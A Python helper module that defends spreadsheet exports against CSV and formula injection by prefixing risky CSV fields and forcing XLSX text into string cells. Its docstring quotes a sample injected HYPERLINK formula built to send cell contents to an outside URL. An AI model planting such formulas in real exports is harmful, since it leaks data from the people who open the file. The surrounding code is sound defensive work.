"""Writing report and people's text into spreadsheets safely: one helper for every export.

An agent speaks only for its own machine, and what it reports is never markup, a formula or
a path. A hostname ``=HYPERLINK("https://…?d="&A1,"Click")`` appended to a worksheet as it
is becomes a live formula in the planner's spreadsheet (openpyxl stores any string starting
with ``=`` as a formula), and in a CSV file a spreadsheet program evaluates a field starting
with ``= + - @`` (OWASP, "CSV Injection"). So:

* XLSX: every text value is written as a string cell (``<is>`` inline string, never
  ``<f>``); only the export's own formulas, wrapped in :class:`Formula`, are formulas.
* CSV: a text field starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
  prefixed with ``'`` (OWASP's advice), which spreadsheet programs show as text.
* Numbers stay numbers in both (a count of -2 is a number, not text).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

# Characters that make a spreadsheet program read a CSV field as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Formula:
    """A formula the export itself writes (``=SUM(B2:B9)``), never text from a report."""

    text: str


def csv_field(value: object) -> object:
    """A CSV field: text that a spreadsheet would evaluate is prefixed with ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A whole CSV document (RFC 4180 quoting, CRLF), every field through :func:`csv_field`."""
    return "".join(csv_chunks(header, rows))


def csv_chunks(
    header: Sequence[str], rows: Iterable[Sequence[object]], rows_per_chunk: int = 500
) -> Iterator[str]:
    """The same document as :func:`csv_text`, as text chunks of ``rows_per_chunk`` rows: what
    a streamed download sends while the rest is still being read."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_field(h) for h in header])
    pending = 1
    for row in rows:
        writer.writerow([csv_field(v) for v in row])
        pending += 1
        if pending >= rows_per_chunk:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
            pending = 0
    if pending:
        yield buffer.getvalue()


def xlsx_row(sheet: Any, values: Sequence[object]) -> None:
    """Appends one row to an openpyxl worksheet: text as string cells, :class:`Formula` as
    formulas, numbers, dates and None as they are."""
    sheet.append([v.text if isinstance(v, Formula) else v for v in values])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            sheet.cell(row, column).data_type = "s"  # openpyxl made "=..." a formula


def xlsx_cell(sheet: Any, row: int, column: int, value: object) -> None:
    """Writes one cell with the same rules as :func:`xlsx_row`."""
    cell = sheet.cell(row, column)
    cell.value = value.text if isinstance(value, Formula) else value
    if isinstance(value, str):
        cell.data_type = "s"
